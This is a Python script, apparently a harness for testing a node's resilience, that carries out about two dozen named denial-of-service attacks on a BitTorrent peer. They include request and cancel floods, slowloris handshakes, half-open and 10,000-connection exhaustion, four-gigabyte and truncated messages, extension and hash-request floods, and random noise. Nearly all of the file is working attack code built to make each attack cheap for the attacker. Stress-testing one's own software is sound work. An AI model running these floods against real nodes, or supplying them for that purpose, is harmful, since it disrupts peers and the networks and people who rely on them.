#!/usr/bin/python3
"""Attacks one node from one address for a while, and reports what became of it.

One loop over non-blocking sockets; what is sent again and again is made once, so that the attacker costs little beside the attacked."""
import argparse
import json
import os
import random
import re
import selectors
import socket
import struct
import sys
import time

import libtorrent as lt

BLOCK = 16384
CHUNK = 64 << 10


def message(kind, payload=b""):
    return struct.pack(">IB", len(payload) + 1, kind) + payload


def block(piece, offset=0, length=BLOCK):
    return struct.pack(">III", piece, offset, length)


def extended(number, payload):
    return message(20, bytes([number]) + payload)


def repeated(*messages):
    """The messages again and again, to about a chunk."""
    data = b"".join(messages)
    return data * max(1, CHUNK // len(data))


class Attack:
    """What one connection does: says `opening`, then `flood` for ever. Peers that are thrown out come back where `returns` is set."""

    connections = 8
    returns = False
    shakes = True
    reads = True
    # At most so many bytes in one write: 1 drips.
    step = CHUNK
    # At most so many writes a second and connection; 0 for as many as go.
    pace = 0

    def __init__(self, a):
        self.a = a
        self.info = lt.torrent_info(a.torrent)
        self.info_hash = self.info.info_hashes().v1.to_bytes()
        self.pieces = self.info.num_pieces()
        self.flood = b""
        self.prepare()

    def prepare(self):
        pass

    def handshake(self, info_hash=None):
        reserved = bytes([0, 0, 0, 0, 0, 0x10, 0, 0x14])
        return b"\x13BitTorrent protocol" + reserved + (info_hash or self.info_hash) + b"-AT0001-" + os.urandom(12)

    def opening(self):
        return self.handshake()

    def metadata_id(self):
        """The node's number for ut_metadata, as its extended handshake gives it."""
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            try:
                return self.ask_metadata_id()
            except OSError:
                # Beside other attacks there may be no place just now.
                time.sleep(0.1)
        raise TimeoutError("no extended handshake")

    def ask_metadata_id(self):
        host, port = self.a.peer.rsplit(":", 1)
        with socket.create_connection((host, int(port)), timeout=5, source_address=(self.a.bind, 0)) as link:
            link.sendall(self.handshake())
            data = b""
            while not (found := re.search(rb"11:ut_metadatai(\d+)e", data)):
                more = link.recv(4096)
                if not more:
                    raise ConnectionError("no extended handshake")
                data += more
        return int(found.group(1))


ATTACKS = {}


def attack(name):
    def add(kind):
        ATTACKS[name] = kind
        return kind
    return add


@attack("dripped-session")
class DrippedSession(Attack):
    """Every message that there is, byte by byte."""
    step = 1

    def prepare(self):
        self.flood = b"".join([
            message(2), message(6, block(0)), message(8, block(0)), message(4, struct.pack(">I", 0)),
            extended(0, b"d1:md11:ut_metadatai3eee"), bytes(4), message(17, struct.pack(">I", 0)), message(13, struct.pack(">I", 0)), message(3)])


@attack("request-flood")
class RequestFlood(Attack):
    """More requests than we said may be outstanding."""

    def prepare(self):
        self.flood = repeated(*[message(6, block(i % self.pieces, 0, min(BLOCK, self.info.piece_size(i % self.pieces)))) for i in range(64)])

    def opening(self):
        return self.handshake() + message(2)


@attack("deaf-requests")
class DeafRequests(RequestFlood):
    """The same, and takes nothing of what it asked for."""
    reads = False
    connections = 64


@attack("choked-requests")
class ChokedRequests(RequestFlood):
    """Requests without ever being interested: choked all the time."""

    def opening(self):
        return self.handshake()


@attack("cancel-storm")
class CancelStorm(RequestFlood):
    """Requests, and a cancel for each at once."""

    def prepare(self):
        self.flood = repeated(*[message(kind, block(i % self.pieces)) for i in range(64) for kind in (6, 8)])


@attack("stray-cancels")
class StrayCancels(Attack):
    """Cancels of what was never asked for."""

    def prepare(self):
        self.flood = repeated(message(8, block(0)))


@attack("half-open")
class HalfOpen(Attack):
    """Connects, says nothing and stays."""
    connections = 400
    shakes = False

    def opening(self):
        return b""


@attack("slow-handshake")
class SlowHandshake(Attack):
    """A handshake that never ends (slowloris)."""
    connections = 400
    step = 1
    pace = 5
    shakes = False

    def opening(self):
        return self.handshake()[:-1]


@attack("ten-thousand")
class TenThousand(Attack):
    """Ten thousand connections from one address, each with a proper handshake."""
    connections = 10000


@attack("connect-storm")
class ConnectStorm(Attack):
    """Connects and hangs up."""
    connections = 64
    returns = True
    hangs_up = True

    def opening(self):
        return b""


@attack("random-hashes")
class RandomHashes(Attack):
    """Handshakes for artifacts that are not here, each another one."""
    connections = 64
    returns = True

    def opening(self):
        return self.handshake(os.urandom(20))


@attack("extension-handshakes")
class ExtensionHandshakes(Attack):
    """Extended handshakes by the thousand, with other names each time."""

    def prepare(self):
        def one(i):
            names = b"".join(b"%d:%si%de" % (len(n), n, 1 + j) for j, n in enumerate(b"x_%05d_%02d" % (i, k) for k in range(20)))
            return extended(0, b"d1:md" + names + b"ee")
        self.flood = b"".join(one(i) for i in range(300))


@attack("same-extension-handshake")
class SameExtensionHandshake(Attack):
    """The same extended handshake by the thousand."""

    def prepare(self):
        self.flood = repeated(extended(0, b"d1:md11:ut_metadatai3eee"))


@attack("id-clash")
class IDClash(Attack):
    """Two messages under one id, and ids that wander between names."""

    def prepare(self):
        first = extended(0, b"d1:md6:lt_fooi3e11:ut_metadatai3eee")
        second = extended(0, b"d1:md6:lt_fooi4e11:ut_metadatai0eee")
        ask = extended(self.metadata_id(), b"d8:msg_typei0e5:piecei0ee")
        self.flood = repeated(first, ask, second, ask)


@attack("hash-requests")
class HashRequests(Attack):
    """Hash requests (BEP 52) by the thousand, of leaves, which cost reading and hashing."""

    def prepare(self):
        files = self.info.files()
        root = next((files.root(i).to_bytes() for i in range(files.num_files()) if files.file_size(i) > BLOCK), bytes(32))
        self.flood = repeated(message(21, root + struct.pack(">IIII", 0, 0, 4, 0)))


@attack("metadata-requests")
class MetadataRequests(Attack):
    """Requests for metadata by the thousand."""

    def prepare(self):
        self.flood = repeated(extended(self.metadata_id(), b"d8:msg_typei0e5:piecei0ee"))

    def opening(self):
        return self.handshake() + extended(0, b"d1:md11:ut_metadatai3eee")


@attack("huge-length")
class HugeLength(Attack):
    """A message of four gigabytes, begun."""
    returns = True

    def opening(self):
        return self.handshake() + b"\xff\xff\xff\xff\x14" + bytes(4096)


@attack("begun-messages")
class BegunMessages(Attack):
    """The longest message that is taken, without its last byte."""
    connections = 200

    def opening(self):
        return self.handshake() + struct.pack(">IB", 65536, 20) + bytes(65000)


@attack("flapping")
class Flapping(Attack):
    """Interested, not interested."""

    def prepare(self):
        self.flood = repeated(message(2), message(3))


@attack("choke-flapping")
class ChokeFlapping(Attack):
    """Choke, unchoke."""

    def prepare(self):
        self.flood = repeated(message(0), message(1))


@attack("have-flood")
class HaveFlood(Attack):
    """The same pieces, had again and again."""

    def prepare(self):
        self.flood = repeated(*[message(4, struct.pack(">I", i)) for i in range(self.pieces)])


@attack("unasked-pieces")
class UnaskedPieces(Attack):
    """Data that nobody asked for."""
    returns = True

    def opening(self):
        return self.handshake() + message(7, struct.pack(">II", 0, 0) + bytes(BLOCK))


@attack("keep-alives")
class KeepAlives(Attack):
    """Nothing, often."""

    def prepare(self):
        self.flood = repeated(bytes(4))


@attack("fast-words")
class FastWords(Attack):
    """Suggestions, allowed-fast and rejects that answer nothing."""

    def prepare(self):
        self.flood = repeated(message(13, struct.pack(">I", 0)), message(17, struct.pack(">I", 0)))


@attack("unknown-messages")
class UnknownMessages(Attack):
    """Messages that nobody knows."""
    returns = True

    def opening(self):
        return self.handshake() + message(99, bytes(100))


@attack("noise")
class Noise(Attack):
    """Random bytes after a handshake."""
    returns = True

    def opening(self):
        return self.handshake() + os.urandom(4096)


class Link:
    """One of the attacker's connections."""

    def __init__(self, run):
        self.run = run
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if not run.attack.reads:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.socket.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        self.socket.bind((run.bind, 0))
        self.socket.connect_ex(run.endpoint)
        self.out = memoryview(run.attack.opening())
        self.next_write = 0
        self.is_up = False

    def wants(self):
        attack = self.run.attack
        out = len(self.out) > 0 or bool(attack.flood) or not self.is_up
        events = selectors.EVENT_WRITE if out and self.next_write <= time.monotonic() else 0
        return events | (selectors.EVENT_READ if attack.reads or not self.is_up else 0)

    def write(self):
        attack = self.run.attack
        if not self.is_up:
            error = self.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if error:
                raise OSError(error, "connect")
            self.is_up = True
            self.run.opened += 1
        if getattr(attack, "hangs_up", False):
            raise ConnectionError("ours")
        if not len(self.out) and attack.flood:
            self.out = memoryview(attack.flood)
        if len(self.out):
            sent = self.socket.send(self.out[:attack.step])
            self.out = self.out[sent:]
            self.run.sent += sent
        if attack.pace:
            self.next_write = time.monotonic() + 1 / attack.pace

    def read(self):
        data = self.socket.recv(1 << 18)
        if not data:
            raise ConnectionError("theirs")
        self.run.received += len(data)


class Run:
    """The attack, for its time."""

    def __init__(self, a):
        self.attack = ATTACKS[a.kind](a)
        host, port = a.peer.rsplit(":", 1)
        self.endpoint, self.bind = (host, int(port)), a.bind
        self.seconds = a.seconds
        self.wanted = a.connections or self.attack.connections
        self.selector = selectors.DefaultSelector()
        self.links = {}
        self.opened = self.closed = self.failed = self.sent = self.received = self.dialed = 0

    def dial(self):
        # Not all at once: a listener's backlog is finite.
        burst = 0
        while len(self.links) < self.wanted and burst < 200 and (self.attack.returns or self.dialed < self.wanted):
            try:
                link = Link(self)
            except OSError:
                self.failed += 1
                return
            self.dialed += 1
            burst += 1
            self.links[link] = link.wants()
            self.selector.register(link.socket, self.links[link] or selectors.EVENT_READ, link)

    def drop(self, link):
        if self.links.pop(link, None) is not None:
            self.selector.unregister(link.socket)
            self.closed += link.is_up
            self.failed += not link.is_up
            link.socket.close()

    def serve(self, link, events):
        try:
            if events & selectors.EVENT_WRITE:
                link.write()
            if events & selectors.EVENT_READ:
                link.read()
        except (BlockingIOError, InterruptedError):
            pass
        except (OSError, ConnectionError):
            self.drop(link)

    def turn(self):
        for key, events in self.selector.select(0.02):
            self.serve(key.data, events)
        if self.attack.pace or not self.attack.flood:
            for link in list(self.links):
                self.want(link)

    def want(self, link):
        wants = link.wants() or selectors.EVENT_READ
        if self.links.get(link, wants) != wants:
            self.links[link] = wants
            self.selector.modify(link.socket, wants, link)

    def go(self):
        end = time.monotonic() + self.seconds
        while time.monotonic() < end:
            self.dial()
            if not self.links and not self.attack.returns:
                break
            self.turn()
        held = len(self.links)
        for link in list(self.links):
            link.socket.close()
        return {"kind": type(self.attack).__name__, "dialed": self.dialed, "opened": self.opened, "closed": self.closed,
                "failed": self.failed, "held": held, "sent": self.sent, "received": self.received}


def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("kind", choices=sorted(ATTACKS))
    p.add_argument("--peer", required=True, help="HOST:PORT of the node")
    p.add_argument("--torrent", required=True)
    p.add_argument("--bind", required=True, help="the attacker's address")
    p.add_argument("--seconds", type=float, default=2)
    p.add_argument("--connections", type=int, default=0, help="at once (default: the attack's own)")
    a = p.parse_args()
    random.seed(1)
    print(json.dumps(Run(a).go()), flush=True)


if __name__ == "__main__":
    sys.exit(main())
